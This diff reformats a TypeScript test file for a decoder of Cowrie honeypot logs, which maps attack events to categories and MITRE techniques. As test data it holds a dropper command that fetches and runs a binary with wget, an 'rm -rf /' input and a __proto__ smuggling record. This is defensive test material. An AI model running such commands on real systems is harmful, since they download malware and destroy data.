@@ -9,7 +9,9 @@ import type { Decoded } from '../../../../services/collector/decode/decoded.js'
 const decodeCowrie = (record: string) => decodeCowrieWith(record, { maxDepth: 32 })
 
 function fixture(name: string): string[] {
-  return readFileSync(new URL(`../../../fixtures/sensors/${name}`, import.meta.url), 'utf8').split('\n').filter((line) => line !== '')
+  return readFileSync(new URL(`../../../fixtures/sensors/${name}`, import.meta.url), 'utf8')
+    .split('\n')
+    .filter((line) => line !== '')
 }
 
 /** One Cowrie log line with the shared fields, as Cowrie writes it. */
@@ -57,44 +59,123 @@ t.test('a failed login becomes the canonical fields, without the credentials', a
 
 t.test('each attack step has its category, severity, signature and technique', async (t) => {
   const cases: Array<[string, Record<string, unknown>, Partial<SensorEvent>]> = [
-    ['cowrie.session.connect', { src_port: 50112, dst_ip: '192.0.2.10', dst_port: 22, protocol: 'ssh' }, { category: 'scan', severity: 1, signature: 'session connect', src_port: 50112, dst_ip: '192.0.2.10', dst_port: 22, protocol: 'ssh' }],
-    ['cowrie.login.failed', { username: 'admin', password: 'admin' }, { category: 'bruteforce', severity: 2, signature: 'login failed', mitre_technique: 'T1110.001' }],
-    ['cowrie.login.success', { username: 'root', password: 'admin' }, { category: 'bruteforce', severity: 4, signature: 'login succeeded', mitre_technique: 'T1110' }],
-    ['cowrie.command.input', { input: 'uname -a' }, { category: 'exploit', severity: 3, signature: 'command: uname -a', mitre_technique: 'T1059' }],
-    ['cowrie.session.file_download', { url: 'http://198.51.100.23/bins/x86', shasum: 'ab', outfile: 'var/x' }, { category: 'malware', severity: 4, signature: 'file download: http://198.51.100.23/bins/x86', mitre_technique: 'T1105' }],
-    ['cowrie.session.file_upload', { filename: 'sshd', shasum: 'cd', outfile: 'var/y' }, { category: 'malware', severity: 4, signature: 'file upload: sshd', mitre_technique: 'T1105' }],
-    ['cowrie.direct-tcpip.request', { dst_ip: '198.51.100.250', dst_port: 25, src_port: 0 }, { category: 'policy_violation', severity: 2, signature: 'direct-tcpip request', mitre_technique: 'T1090', dst_ip: '198.51.100.250', dst_port: 25 }],
+    [
+      'cowrie.session.connect',
+      { src_port: 50112, dst_ip: '192.0.2.10', dst_port: 22, protocol: 'ssh' },
+      {
+        category: 'scan',
+        severity: 1,
+        signature: 'session connect',
+        src_port: 50112,
+        dst_ip: '192.0.2.10',
+        dst_port: 22,
+        protocol: 'ssh',
+      },
+    ],
+    [
+      'cowrie.login.failed',
+      { username: 'admin', password: 'admin' },
+      { category: 'bruteforce', severity: 2, signature: 'login failed', mitre_technique: 'T1110.001' },
+    ],
+    [
+      'cowrie.login.success',
+      { username: 'root', password: 'admin' },
+      { category: 'bruteforce', severity: 4, signature: 'login succeeded', mitre_technique: 'T1110' },
+    ],
+    [
+      'cowrie.command.input',
+      { input: 'uname -a' },
+      { category: 'exploit', severity: 3, signature: 'command: uname -a', mitre_technique: 'T1059' },
+    ],
+    [
+      'cowrie.session.file_download',
+      { url: 'http://198.51.100.23/bins/x86', shasum: 'ab', outfile: 'var/x' },
+      {
+        category: 'malware',
+        severity: 4,
+        signature: 'file download: http://198.51.100.23/bins/x86',
+        mitre_technique: 'T1105',
+      },
+    ],
+    [
+      'cowrie.session.file_upload',
+      { filename: 'sshd', shasum: 'cd', outfile: 'var/y' },
+      { category: 'malware', severity: 4, signature: 'file upload: sshd', mitre_technique: 'T1105' },
+    ],
+    [
+      'cowrie.direct-tcpip.request',
+      { dst_ip: '198.51.100.250', dst_port: 25, src_port: 0 },
+      {
+        category: 'policy_violation',
+        severity: 2,
+        signature: 'direct-tcpip request',
+        mitre_technique: 'T1090',
+        dst_ip: '198.51.100.250',
+        dst_port: 25,
+      },
+    ],
   ]
   for (const [eventid, fields, expected] of cases) {
     const event = eventOf(t, decodeCowrie(logLine(eventid, fields)))
     t.has(event, { ...expected, signature_id: eventid, src_ip: '203.0.113.55', count: 1 }, eventid)
   }
-  t.notOk('mitre_technique' in eventOf(t, decodeCowrie(logLine('cowrie.session.connect'))), 'a connection has no technique')
+  t.notOk(
+    'mitre_technique' in eventOf(t, decodeCowrie(logLine('cowrie.session.connect'))),
+    'a connection has no technique',
+  )
 })
 
 t.test('attacker-chosen text in the signature is cut short; without it the bare label', async (t) => {
   const command = eventOf(t, decodeCowrie(logLine('cowrie.command.input', { input: `echo ${'A'.repeat(100_000)}` })))
   t.equal(command.signature, `command: echo ${'A'.repeat(195)}`)
-  const url = eventOf(t, decodeCowrie(logLine('cowrie.session.file_download', { url: `http://198.51.100.23/${'b'.repeat(5000)}` })))
+  const url = eventOf(
+    t,
+    decodeCowrie(logLine('cowrie.session.file_download', { url: `http://198.51.100.23/${'b'.repeat(5000)}` })),
+  )
   t.equal(url.signature.length, 'file download: '.length + 400)
-  t.equal(eventOf(t, decodeCowrie(logLine('cowrie.command.input', { input: `${'x'.repeat(199)}😀` }))).signature, `command: ${'x'.repeat(199)}`, 'a surrogate pair is not split')
+  t.equal(
+    eventOf(t, decodeCowrie(logLine('cowrie.command.input', { input: `${'x'.repeat(199)}😀` }))).signature,
+    `command: ${'x'.repeat(199)}`,
+    'a surrogate pair is not split',
+  )
   t.equal(eventOf(t, decodeCowrie(logLine('cowrie.command.input', { input: '' }))).signature, 'command')
   t.equal(eventOf(t, decodeCowrie(logLine('cowrie.command.input'))).signature, 'command')
   t.equal(eventOf(t, decodeCowrie(logLine('cowrie.command.input', { input: ['ls'] }))).signature, 'command')
   t.equal(eventOf(t, decodeCowrie(logLine('cowrie.session.file_download', { url: null }))).signature, 'file download')
   t.equal(eventOf(t, decodeCowrie(logLine('cowrie.session.file_upload', { filename: 7 }))).signature, 'file upload')
-  t.equal(eventOf(t, decodeCowrie(logLine('cowrie.command.input', { input: 'rm -rf /\n\u0000' }))).signature, 'command: rm -rf /\n\u0000', 'control characters are kept as text')
+  t.equal(
+    eventOf(t, decodeCowrie(logLine('cowrie.command.input', { input: 'rm -rf /\n\u0000' }))).signature,
+    'command: rm -rf /\n\u0000',
+    'control characters are kept as text',
+  )
 })
 
 t.test("T-Pot's dest_ip and dest_port are accepted; dst_* wins when both are present", async (t) => {
-  t.has(eventOf(t, decodeCowrie(logLine('cowrie.session.connect', { dest_ip: '192.0.2.10', dest_port: 22 }))), { dst_ip: '192.0.2.10', dst_port: 22 })
-  t.has(eventOf(t, decodeCowrie(logLine('cowrie.session.connect', { dst_ip: '192.0.2.11', dst_port: 2222, dest_ip: '192.0.2.10', dest_port: 22 }))), { dst_ip: '192.0.2.11', dst_port: 2222 })
+  t.has(eventOf(t, decodeCowrie(logLine('cowrie.session.connect', { dest_ip: '192.0.2.10', dest_port: 22 }))), {
+    dst_ip: '192.0.2.10',
+    dst_port: 22,
+  })
+  t.has(
+    eventOf(
+      t,
+      decodeCowrie(
+        logLine('cowrie.session.connect', {
+          dst_ip: '192.0.2.11',
+          dst_port: 2222,
+          dest_ip: '192.0.2.10',
+          dest_port: 22,
+        }),
+      ),
+    ),
+    { dst_ip: '192.0.2.11', dst_port: 2222 },
+  )
   const bare = eventOf(t, decodeCowrie(logLine('cowrie.login.failed')))
   t.notOk('dst_ip' in bare || 'dst_port' in bare || 'src_port' in bare, 'a login names no ports')
 })
 
 t.test('protocol: the protocol field, else the session number, else tcp', async (t) => {
-  const protocol = (fields: Record<string, unknown>) => eventOf(t, decodeCowrie(logLine('cowrie.session.connect', fields))).protocol
+  const protocol = (fields: Record<string, unknown>) =>
+    eventOf(t, decodeCowrie(logLine('cowrie.session.connect', fields))).protocol
   t.equal(protocol({ protocol: 'ssh' }), 'ssh')
   t.equal(protocol({ protocol: 'Telnet' }), 'telnet')
   t.equal(protocol({ protocol: 'ssh', sessionno: 'T3' }), 'ssh', 'the field wins')
@@ -105,7 +186,10 @@ t.test('protocol: the protocol field, else the session number, else tcp', async 
   t.equal(protocol({ protocol: '' }), 'tcp')
   t.equal(protocol({ protocol: 22 }), 'tcp')
   t.equal(protocol({}), 'tcp')
-  t.match(reasonOf(t, decodeCowrie(logLine('cowrie.session.connect', { protocol: 'ssh over carrier pigeon' })), 'invalid'), /^protocol:/)
+  t.match(
+    reasonOf(t, decodeCowrie(logLine('cowrie.session.connect', { protocol: 'ssh over carrier pigeon' })), 'invalid'),
+    /^protocol:/,
+  )
 })
 
 t.test('timestamps: Z and +0500 (Cowrie without TZ=UTC) are accepted; none is refused', async (t) => {
@@ -113,7 +197,10 @@ t.test('timestamps: Z and +0500 (Cowrie without TZ=UTC) are accepted; none is re
   t.equal(eventOf(t, at('2025-03-01T03:15:30.123456Z')).occurred_at, '2025-03-01T03:15:30.123456Z')
   t.equal(eventOf(t, at('2025-03-01T08:15:30.123456+0500')).occurred_at, '2025-03-01T08:15:30.123456+05:00')
   t.equal(eventOf(t, at('2025-03-01T08:15:30.123456+05:00')).occurred_at, '2025-03-01T08:15:30.123456+05:00')
-  t.match(reasonOf(t, at('2025-03-01T08:15:30.123456'), 'invalid'), /^timestamp: "2025-03-01T08:15:30\.123456" has no UTC offset/)
+  t.match(
+    reasonOf(t, at('2025-03-01T08:15:30.123456'), 'invalid'),
+    /^timestamp: "2025-03-01T08:15:30\.123456" has no UTC offset/,
+  )
   t.match(reasonOf(t, at('2025-13-01T08:15:30Z'), 'invalid'), /^occurred_at:/)
   t.match(reasonOf(t, at(1740798930.123), 'invalid'), /^timestamp: expected an ISO 8601 time, got 1740798930\.123/)
   t.match(reasonOf(t, at(undefined), 'invalid'), /got nothing/)
@@ -142,9 +229,16 @@ t.test('the session bookkeeping and unknown event ids are skipped, naming the ev
   ]
   for (const eventid of skipped) {
     // Skipping needs no timestamp or address: those lines are not events.
-    t.match(reasonOf(t, decodeCowrie(JSON.stringify({ eventid })), 'skipped'), `eventid ${JSON.stringify(eventid)}`, eventid)
+    t.match(
+      reasonOf(t, decodeCowrie(JSON.stringify({ eventid })), 'skipped'),
+      `eventid ${JSON.stringify(eventid)}`,
+      eventid,
+    )
   }
-  t.ok(reasonOf(t, decodeCowrie(JSON.stringify({ eventid: 'z'.repeat(50_000) })), 'skipped').length < 200, 'a long eventid is cut in the reason')
+  t.ok(
+    reasonOf(t, decodeCowrie(JSON.stringify({ eventid: 'z'.repeat(50_000) })), 'skipped').length < 200,
+    'a long eventid is cut in the reason',
+  )
 })
 
 t.test('every line of the fixture', async (t) => {
@@ -158,7 +252,12 @@ t.test('every line of the fixture', async (t) => {
     'cowrie.client.size',
     'cowrie.session.params',
     { category: 'exploit', severity: 3, signature: 'command: uname -a' },
-    { category: 'exploit', severity: 3, signature: 'command: cd /tmp || cd /var/run || cd /mnt; wget http://198.51.100.23/bins/x86; chmod 777 x86; ./x86 ssh.root' },
+    {
+      category: 'exploit',
+      severity: 3,
+      signature:
+        'command: cd /tmp || cd /var/run || cd /mnt; wget http://198.51.100.23/bins/x86; chmod 777 x86; ./x86 ssh.root',
+    },
     { category: 'malware', severity: 4, signature: 'file download: http://198.51.100.23/bins/x86' },
     'cowrie.command.failed',
     'cowrie.log.closed',
@@ -182,10 +281,18 @@ t.test('every line of the fixture', async (t) => {
 })
 
 t.test('every line of the bad fixture is invalid, with its reason', async (t) => {
-  const reasons = [/not valid JSON/, /no UTC offset/, /^src_ip:/, /^src_port:/, /^eventid: missing/, /not a JSON object but an array/]
+  const reasons = [
+    /not valid JSON/,
+    /no UTC offset/,
+    /^src_ip:/,
+    /^src_port:/,
+    /^eventid: missing/,
+    /not a JSON object but an array/,
+  ]
   const lines = fixture('cowrie-bad.json')
   t.equal(lines.length, reasons.length, 'one expectation per line')
-  for (const [i, line] of lines.entries()) t.match(reasonOf(t, decodeCowrie(line), 'invalid'), reasons[i] ?? /./, `line ${i + 1}`)
+  for (const [i, line] of lines.entries())
+    t.match(reasonOf(t, decodeCowrie(line), 'invalid'), reasons[i] ?? /./, `line ${i + 1}`)
 })
 
 t.test('malformed and hostile records are invalid, never a throw', async (t) => {
@@ -206,16 +313,42 @@ t.test('malformed and hostile records are invalid, never a throw', async (t) => 
     [logLine('cowrie.login.failed', { src_ip: null }), /^src_ip:/],
     [logLine('cowrie.session.connect', { src_port: 70000 }), /^src_port:/],
     [logLine('cowrie.session.connect', { dst_port: -22 }), /^dst_port:/],
-    ['{"eventid":"cowrie.session.connect","timestamp":"2025-03-01T03:15:30Z","src_ip":"203.0.113.55","dst_port":1e400}', /^dst_port:/],
+    [
+      '{"eventid":"cowrie.session.connect","timestamp":"2025-03-01T03:15:30Z","src_ip":"203.0.113.55","dst_port":1e400}',
+      /^dst_port:/,
+    ],
     [logLine('cowrie.session.connect', { dest_ip: 'honeypot.local' }), /^dst_ip:/],
     [logLine('cowrie.session.connect', { dst_ip: 42 }), /^dst_ip:/],
   ]
-  for (const [record, reason] of records) t.match(reasonOf(t, decodeCowrie(record), 'invalid'), reason, record.slice(0, 80))
-  const smuggled = logLine('cowrie.login.failed').replace('{"eventid"', '{"__proto__":{"severity":1,"sector":"finance"},"eventid"')
-  t.same(eventOf(t, decodeCowrie(smuggled)), eventOf(t, decodeCowrie(logLine('cowrie.login.failed'))), '__proto__ in the text adds nothing')
-  const extra = logLine('cowrie.login.failed', { category: 'ddos', severity: 1, count: 500, event_id: 'x', signature: 'spoofed', sector: 'finance' })
-  t.has(eventOf(t, decodeCowrie(extra)), { category: 'bruteforce', severity: 2, count: 1, signature: 'login failed' }, 'canonical field names in the log change nothing')
-  t.equal(decodeCowrie(logLine('cowrie.login.failed', { password: 'p'.repeat(2_000_000) })).kind, 'event', 'a huge field is ignored')
+  for (const [record, reason] of records)
+    t.match(reasonOf(t, decodeCowrie(record), 'invalid'), reason, record.slice(0, 80))
+  const smuggled = logLine('cowrie.login.failed').replace(
+    '{"eventid"',
+    '{"__proto__":{"severity":1,"sector":"finance"},"eventid"',
+  )
+  t.same(
+    eventOf(t, decodeCowrie(smuggled)),
+    eventOf(t, decodeCowrie(logLine('cowrie.login.failed'))),
+    '__proto__ in the text adds nothing',
+  )
+  const extra = logLine('cowrie.login.failed', {
+    category: 'ddos',
+    severity: 1,
+    count: 500,
+    event_id: 'x',
+    signature: 'spoofed',
+    sector: 'finance',
+  })
+  t.has(
+    eventOf(t, decodeCowrie(extra)),
+    { category: 'bruteforce', severity: 2, count: 1, signature: 'login failed' },
+    'canonical field names in the log change nothing',
+  )
+  t.equal(
+    decodeCowrie(logLine('cowrie.login.failed', { password: 'p'.repeat(2_000_000) })).kind,
+    'event',
+    'a huge field is ignored',
+  )
 })
 
 t.test('no mutation of a real line makes the decoder throw or emit a bad event', async (t) => {
